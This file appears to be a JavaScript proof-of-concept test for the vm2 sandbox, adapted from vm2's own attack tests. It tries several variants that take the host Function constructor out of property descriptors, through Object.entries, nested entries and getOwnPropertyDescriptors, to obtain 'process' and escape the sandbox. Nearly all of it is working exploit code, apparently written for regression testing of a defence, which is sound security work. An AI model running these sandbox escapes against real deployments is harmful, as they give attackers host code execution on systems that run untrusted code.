// Source: vm2 test/vm.js "getOwnPropertyDescriptor Function constructor bypass attack",
// "... via Object method call bypass attack", "... via Object.entries attack", "... via nested
// entries attack", "... via direct value access attack", "getOwnPropertyDescriptors (plural)
// Function extraction attack" and docs/ATTACKS.md Category 15.
// Tried: take the host Function out of the descriptor of host Function.prototype.constructor (a
// descriptor's `value` is not a `.constructor` read, so vm2's constructor check does not see it),
// directly, through host Object.entries arrays, and through apply.apply(apply, [Function, args]).
// vm2 3.12 refuses the host `__proto__` getter this walk starts from (GHSA-88hf); so that the rest of
// the PoC still runs, it falls back to Object.getPrototypeOf, answered with vm2's mapped prototypes.
const out = {};
const g = ({}).__lookupGetter__;
const a = Buffer.apply;
let p, fp, op, ho;
try {
  p = a.apply(g, [Buffer, ['__proto__']]);
  if (typeof p !== 'function') { out.getter = typeof p; p = { call: (x) => Object.getPrototypeOf(x) }; }
  fp = p.call(a);
  op = p.call(fp);
  ho = op.constructor;
  out.walk = [typeof fp, typeof op, typeof ho];
} catch (e) { out.walk = String(e.message); }
const variants = {
  sandboxGopd: () => Object.getOwnPropertyDescriptor(fp, 'constructor').value,
  hostGopd: () => ho.getOwnPropertyDescriptor(fp, 'constructor').value,
  entries: () => { const e = ho.entries(ho.getOwnPropertyDescriptor(fp, 'constructor')).find((v) => v[0] === 'value'); e.shift(); e.push([undefined, ['return process']]); return a.apply(a, e); },
  nestedEntries: () => {
    const all = ho.entries(ho.getOwnPropertyDescriptor(fp, 'constructor'));
    let valueEntry;
    for (let i = 0; i < all.length; i++) if (all[i][0] === 'value') { valueEntry = all[i]; break; }
    valueEntry.shift();
    valueEntry.push([undefined, ['return process']]);
    return a.apply(a, valueEntry);
  },
  plural: () => { const e = ho.entries(ho.getOwnPropertyDescriptors(fp).constructor).find((v) => v[0] === 'value'); e.shift(); e.push([undefined, ['return process']]); return a.apply(a, e); },
};
for (const [name, run] of Object.entries(variants)) {
  try {
    const got = run();
    out[name] = typeof got;
    __wr.use(got, name);
    if (typeof got === 'function') __wr.use(got(), name + ' called');
  } catch (e) { out[name] = String(e.message).slice(0, 100); }
}
return out;
